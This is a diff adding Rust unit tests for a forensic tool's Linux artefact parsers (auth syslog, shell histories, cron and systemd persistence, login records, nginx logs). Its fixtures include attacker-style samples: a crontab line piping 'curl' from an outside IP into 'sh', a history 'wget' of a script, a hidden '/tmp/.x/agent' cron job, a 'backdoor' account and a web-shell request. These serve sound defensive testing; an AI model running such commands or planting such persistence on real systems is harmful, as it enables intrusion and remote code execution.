@@ -0,0 +1,235 @@
+#[cfg(test)]
+mod tests {
+    use std::collections::HashMap;
+    use std::fs;
+    use std::io::{Seek, SeekFrom, Write};
+    use std::path::{Path, PathBuf};
+    use chrono::{TimeZone, Utc};
+    use flate2::{write::GzEncoder, Compression};
+    use tempfile::TempDir;
+    use crate::art::paths;
+    use crate::configs::config::{MainArgs, Wiskers};
+    use crate::tests::create_main_args;
+    use crate::linux::common::{self as linux, SyslogYear};
+    use crate::linux::history::{self, HistoryEntry};
+    use crate::linux::logins::{self, UTMP_SIZE};
+    use crate::linux::persistence;
+    use crate::linux::syslog::{AuthEvent, SyslogParser};
+    use crate::linux::weblogs::AccessParser;
+    use crate::ops::builtin_ops;
+
+    fn write(path: &Path, data: &[u8]) {
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(path, data).unwrap();
+    }
+
+    fn utmp(record_type: u32, user: &str, line: &str, host: &str, ip: [u8; 4], seconds: u32) -> Vec<u8> {
+        let mut record = vec![0u8; UTMP_SIZE];
+        record[0..4].copy_from_slice(&record_type.to_le_bytes());
+        record[4..8].copy_from_slice(&4242u32.to_le_bytes());
+        record[8..8 + line.len()].copy_from_slice(line.as_bytes());
+        record[44..44 + user.len()].copy_from_slice(user.as_bytes());
+        record[76..76 + host.len()].copy_from_slice(host.as_bytes());
+        record[340..344].copy_from_slice(&seconds.to_le_bytes());
+        record[348..352].copy_from_slice(&ip);
+        record
+    }
+
+    fn run(wisker: &str, outfolder: &str, outfile: &str, args: &str, root: &Path, main_args: &MainArgs) -> String {
+        let data_paths = HashMap::from([("base".to_string(), root.to_string_lossy().to_string())]);
+        let wisker: Wiskers = serde_yaml::from_str(&format!(
+            "name: {wisker}\nbinary: 'builtin:{wisker}'\nargs: '{args}'\noutfolder: {outfolder}\noutfile: {outfile}\ninput: base\n"
+        )).unwrap();
+        builtin_ops::run_builtin(&wisker, &data_paths, main_args).unwrap()
+    }
+
+    /// Test syslog lines are split with their times in UTC, and the SSH, sudo and account
+    /// events of the auth log are named with their user and source IP
+    #[test]
+    fn test_syslog_parser() {
+        let parser = SyslogParser::new(Some(chrono_tz::Europe::London)).unwrap();
+        let year = SyslogYear::new(Path::new("/nonexistent"));
+        let line = parser.parse("Jul  4 10:15:02 web01 sshd[1234]: Accepted publickey for deploy from 198.51.100.4 port 52211 ssh2: RSA SHA256:abc", &year).unwrap();
+        assert_eq!((line.host.as_str(), line.program.as_str(), line.pid.as_str()), ("web01", "sshd", "1234"));
+        assert_eq!(line.timestamp.unwrap().format("%m-%d %H:%M:%S").to_string(), "07-04 09:15:02");
+        assert_eq!(parser.event(&line), Some(AuthEvent { event: "ssh_login", user: "deploy".to_string(), source_ip: "198.51.100.4".to_string() }));
+
+        let line = parser.parse("2024-03-01T08:00:00.123456+01:00 web01 sudo:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id", &year).unwrap();
+        assert_eq!(line.timestamp, Some(Utc.with_ymd_and_hms(2024, 3, 1, 7, 0, 0).unwrap() + chrono::Duration::microseconds(123456)));
+        assert_eq!(parser.event(&line).unwrap().event, "sudo");
+        assert_eq!(parser.event(&line).unwrap().user, "alice");
+
+        let events: Vec<(&str, String, String)> = [
+            "Mar  1 08:00:00 web01 sshd[9]: Failed password for invalid user oracle from 203.0.113.9 port 4000 ssh2",
+            "Mar  1 08:00:01 web01 sshd[9]: Invalid user oracle from 203.0.113.9 port 4000",
+            "Mar  1 08:00:02 web01 su: pam_unix(su:session): session opened for user root(uid=0) by alice(uid=1000)",
+            "Mar  1 08:00:03 web01 useradd[77]: new user: name=backdoor, UID=1001, GID=1001, home=/home/backdoor",
+            "Mar  1 08:00:04 web01 CRON[80]: pam_unix(cron:session): session closed for user root",
+            "Mar  1 08:00:05 web01 kernel: [    0.000000] Linux version 6.1.0",
+        ].iter()
+            .map(|text| parser.event(&parser.parse(text, &year).unwrap()).unwrap_or_default())
+            .map(|e| (e.event, e.user, e.source_ip))
+            .collect();
+        assert_eq!(events, vec![
+            ("ssh_failed", "oracle".to_string(), "203.0.113.9".to_string()),
+            ("ssh_invalid_user", "oracle".to_string(), "203.0.113.9".to_string()),
+            ("su", "root".to_string(), String::new()),
+            ("user_added", "backdoor".to_string(), String::new()),
+            ("session_closed", "root".to_string(), String::new()),
+            ("", String::new(), String::new()),
+        ]);
+        assert!(parser.parse("not a syslog line", &year).is_none());
+    }
+
+    /// Test the times of bash, zsh and fish histories are read, with multiline commands
+    #[test]
+    fn test_parse_history() {
+        let lines = |text: &str| text.lines().map(str::to_string).collect::<Vec<_>>();
+        let bash = history::parse_history("bash", &lines("ls -la\n#1709280000\nwget http://203.0.113.5/x.sh\n\nchmod +x x.sh"));
+        assert_eq!(bash, vec![
+            HistoryEntry { timestamp: None, line: 1, command: "ls -la".to_string() },
+            HistoryEntry { timestamp: Utc.timestamp_opt(1709280000, 0).single(), line: 3, command: "wget http://203.0.113.5/x.sh".to_string() },
+            HistoryEntry { timestamp: None, line: 5, command: "chmod +x x.sh".to_string() },
+        ]);
+        let zsh = history::parse_history("zsh", &lines(": 1709280001:0;echo one\\\ntwo\n: 1709280002:3;id"));
+        assert_eq!(zsh.iter().map(|e| (e.timestamp.unwrap().timestamp(), e.command.as_str())).collect::<Vec<_>>(),
+            vec![(1709280001, "echo one\ntwo"), (1709280002, "id")]);
+        let fish = history::parse_history("fish", &lines("- cmd: curl -s ifconfig.me\n  when: 1709280003\n- cmd: exit\n  when: 1709280004\n  paths:\n    - /tmp"));
+        assert_eq!(fish.iter().map(|e| (e.timestamp.unwrap().timestamp(), e.command.as_str())).collect::<Vec<_>>(),
+            vec![(1709280003, "curl -s ifconfig.me"), (1709280004, "exit")]);
+    }
+
+    /// Test the crontabs, anacrontab and systemd unit settings are parsed
+    #[test]
+    fn test_parse_cron_and_units() {
+        let system = "SHELL=/bin/sh\n# m h dom mon dow user command\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n@reboot nobody  /tmp/.x/agent  -d\n";
+        assert_eq!(persistence::parse_crontab(system, true), vec![
+            ("17 * * * *".to_string(), "root".to_string(), "cd / && run-parts --report /etc/cron.hourly".to_string()),
+            ("@reboot".to_string(), "nobody".to_string(), "/tmp/.x/agent  -d".to_string()),
+        ]);
+        assert_eq!(persistence::parse_crontab("MAILTO = \"\"\n*/5 * * * * curl -s http://203.0.113.5/p | sh\n", false), vec![
+            ("*/5 * * * *".to_string(), String::new(), "curl -s http://203.0.113.5/p | sh".to_string()),
+        ]);
+        assert_eq!(persistence::parse_anacrontab("START_HOURS_RANGE=3-22\n1\t5\tcron.daily\tnice run-parts /etc/cron.daily\n"), vec![
+            ("1".to_string(), "cron.daily".to_string(), "nice run-parts /etc/cron.daily".to_string()),
+        ]);
+        let unit = "[Unit]\nDescription=Updater\n\n[Service]\n; a comment\nExecStart=/usr/bin/python3 \\\n  /opt/upd.py\nUser=www-data\n[Install]\nWantedBy=multi-user.target\n";
+        assert_eq!(persistence::parse_unit(unit), vec![
+            ("Description".to_string(), "Updater".to_string()),
+            ("ExecStart".to_string(), "/usr/bin/python3 /opt/upd.py".to_string()),
+            ("User".to_string(), "www-data".to_string()),
+            ("WantedBy".to_string(), "multi-user.target".to_string()),
+        ]);
+    }
+
+    /// Test the utmp records of wtmp and the last logins of lastlog are parsed
+    #[test]
+    fn test_parse_logins() {
+        let record = logins::parse_utmp(&utmp(7, "alice", "pts/0", "198.51.100.4", [198, 51, 100, 4], 1709280000)).unwrap();
+        assert_eq!((record.record_type, record.user.as_str(), record.terminal.as_str()), ("USER_PROCESS", "alice", "pts/0"));
+        assert_eq!((record.host.as_str(), record.ip.as_str(), record.pid), ("198.51.100.4", "198.51.100.4", 4242));
+        assert_eq!(record.timestamp, Utc.timestamp_opt(1709280000, 0).single());
+        assert!(logins::parse_utmp(&[0u8; UTMP_SIZE]).is_none());
+
+        // lastlog is sparse, with the record of a high uid far past the others
+        let temp_dir = TempDir::new().unwrap();
+        let nobody = 1_000_000;
+        let mut lastlog = fs::File::create(temp_dir.path().join("lastlog")).unwrap();
+        lastlog.set_len((nobody as u64 + 1) * logins::LASTLOG_SIZE as u64).unwrap();
+        let mut record = vec![0u8; logins::LASTLOG_SIZE];
+        record[0..4].copy_from_slice(&1709280000u32.to_le_bytes());
+        record[4..9].copy_from_slice(b"pts/1");
+        record[36..47].copy_from_slice(b"203.0.113.9");
+        for uid in [1000, nobody] {
+            lastlog.seek(SeekFrom::Start(uid as u64 * logins::LASTLOG_SIZE as u64)).unwrap();
+            lastlog.write_all(&record).unwrap();
+        }
+        let accounts = HashMap::from([
+            (1000, linux::Account { name: "alice".to_string(), uid: 1000, ..Default::default() }),
+            (nobody, linux::Account { name: "nobody".to_string(), uid: nobody, ..Default::default() }),
+        ]);
+        let last = logins::read_lastlog(fs::File::open(temp_dir.path().join("lastlog")).unwrap(), &accounts).unwrap();
+        assert_eq!(last.len(), 2);
+        assert_eq!((last[0].user.as_str(), last[0].terminal.as_str(), last[0].host.as_str()), ("alice", "pts/1", "203.0.113.9"));
+        assert_eq!(last[1].user, "nobody");
+    }
+
+    /// Test the builtins over the [root] of a UAC collection, with a gzipped rotation of the
+    /// auth log, and the linux profile being selected for it
+    #[test]
+    fn test_linux_builtins() {
+        let temp_dir = TempDir::new().unwrap();
+        let out_path = temp_dir.path().join("out");
+        let collection = temp_dir.path().join("uac-web01-linux-20240301");
+        let root = collection.join(linux::UAC_ROOT);
+        write(&root.join("etc/passwd"), b"root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/zsh\n");
+        write(&root.join("etc/timezone"), b"Etc/UTC\n");
+        write(&root.join("var/log/auth.log"), b"Mar  1 10:00:00 web01 sshd[5]: Accepted password for alice from 198.51.100.4 port 1 ssh2\n");
+        let mut gz = GzEncoder::new(Vec::new(), Compression::default());
+        gz.write_all(b"Feb 28 23:59:59 web01 sshd[4]: Failed password for root from 203.0.113.9 port 2 ssh2\ngarbage\n").unwrap();
+        write(&root.join("var/log/auth.log.2.gz"), &gz.finish().unwrap());
+        // the year of syslog times is from the modified times of the logs
+        for (log, day) in [("auth.log", 2), ("auth.log.2.gz", 1)] {
+            let modified = Utc.with_ymd_and_hms(2024, 3, day, 12, 0, 0).unwrap();
+            fs::File::options().write(true).open(root.join("var/log").join(log)).unwrap().set_modified(modified.into()).unwrap();
+        }
+        let mut wtmp = utmp(2, "reboot", "~", "6.1.0", [0; 4], 1709280000);
+        wtmp.extend(utmp(7, "alice", "pts/0", "198.51.100.4", [198, 51, 100, 4], 1709287200));
+        write(&root.join("var/log/wtmp"), &wtmp);
+        write(&root.join("home/alice/.zsh_history"), b": 1709287300:0;sudo -i\n");
+        write(&root.join("root/.bash_history"), b"#1709287400\ncrontab -e\n");
+        write(&root.join("var/spool/cron/crontabs/root"), b"* * * * * /tmp/.x/agent\n");
+        write(&root.join("etc/systemd/system/upd.service"), b"[Service]\nExecStart=/opt/upd\n");
+        write(&root.join("lib/systemd/system/ssh.service"), b"[Service]\nExecStart=/usr/sbin/sshd -D\n");
+        write(&root.join("lib/systemd/system/unused.service"), b"[Service]\nExecStart=/usr/bin/unused\n");
+        write(&root.join("etc/systemd/system/multi-user.target.wants/ssh.service"), b"");
+        write(&root.join("var/log/nginx/access.log"), concat!(
+            r#"198.51.100.4 - - [01/Mar/2024:10:05:00 +0100] "GET /shell.php?cmd=id HTTP/1.1" 200 512 "-" "curl/8.0""#, "\n",
+            r#"203.0.113.9 - bob [01/Mar/2024:10:06:00 +0000] "\x16\x03\x01" 400 0"#, "\n",
+        ).as_bytes());
+
+        let tool_path = temp_dir.path().join("wiskess").join("tools");
+        let main_args = MainArgs { tool_path: tool_path.clone(), ..create_main_args(temp_dir.path(), &out_path, "2024-01-01", "2024-12-31") };
+        let msg = run("linux_logs", "Logs", "linux_logs.csv", "", &root, &main_args);
+        assert_eq!(msg, "Linux logs: 2 lines from 2 logs, with 2 authentication events (1 lines skipped)");
+        let logs = fs::read_to_string(out_path.join("Logs/linux_logs.csv")).unwrap();
+        assert!(logs.contains("2024-02-28T23:59:59.000Z,web01,sshd,4,ssh_failed,root,203.0.113.9,"), "{logs}");
+        assert!(logs.contains("2024-03-01T10:00:00.000Z,web01,sshd,5,ssh_login,alice,198.51.100.4,"), "{logs}");
+
+        let msg = run("linux_logins", "Logins", "linux_logins.csv", "", &root, &main_args);
+        assert_eq!(msg, "Linux logins: 2 wtmp records, 0 failed logins of btmp and 0 last logins");
+        let msg = run("linux_history", "UserActivity", "linux_history.csv", "", &root, &main_args);
+        assert_eq!(msg, "Linux shell history: 2 commands from 2 histories");
+        let msg = run("linux_persistence", "Persistence", "linux_persistence.csv", "", &root, &main_args);
+        assert_eq!(msg, "Linux persistence entries written: 3");
+        let entries = fs::read_to_string(out_path.join("Persistence/linux_persistence.csv")).unwrap();
+        assert!(entries.contains(",Cron,var/spool/cron/crontabs,root,/tmp/.x/agent,root,Schedule: * * * * *,"), "{entries}");
+        assert!(entries.contains(",Systemd,lib/systemd/system,ssh.service,/usr/sbin/sshd -D,,Enabled: true,"), "{entries}");
+        assert!(!entries.contains("unused.service"), "{entries}");
+        let msg = run("linux_persistence", "Persistence", "linux_persistence_all.csv", "--all-units", &root, &main_args);
+        assert_eq!(msg, "Linux persistence entries written: 4");
+
+        let msg = run("web_logs", "Web", "web_access.csv", "", &root, &main_args);
+        assert_eq!(msg, "Web access logs: 2 requests from 1 logs (0 lines skipped)");
+        let access = fs::read_to_string(out_path.join("Web/web_access.csv")).unwrap();
+        assert!(access.contains("2024-03-01T09:05:00.000Z,198.51.100.4,,GET,/shell.php?cmd=id,HTTP/1.1,200,512,,curl/8.0,nginx,"), "{access}");
+        let line = AccessParser::new().unwrap().parse(r#"203.0.113.9 - bob [01/Mar/2024:10:06:00 +0000] "\x16\x03\x01" 400 0"#).unwrap();
+        assert_eq!((line.user.as_str(), line.method.as_str(), line.url.as_str()), ("bob", "", r"\x16\x03\x01"));
+
+        // the default configs are swapped for the linux profile, with the [root] as the data source
+        let config_dir = temp_dir.path().join("wiskess").join("config");
+        let profile = config_dir.join("profiles").join("linux");
+        write(&profile.join("main.yaml"), b"");
+        write(&profile.join("artefacts.yaml"), b"");
+        let (config, artefacts, data_source) = paths::select_profile(
+            &config_dir.join("linux/main.yaml"), &config_dir.join("linux/artefacts.yaml"), &collection.to_string_lossy().to_string(), &main_args,
+        );
+        assert_eq!((config, artefacts), (profile.join("main.yaml"), profile.join("artefacts.yaml")));
+        assert_eq!(PathBuf::from(data_source), root);
+        let custom = temp_dir.path().join("custom.yaml");
+        let (config, _, data_source) = paths::select_profile(
+            &custom, &config_dir.join("linux/artefacts.yaml"), &collection.to_string_lossy().to_string(), &main_args,
+        );
+        assert_eq!((config, PathBuf::from(data_source)), (custom, collection));
+    }
+}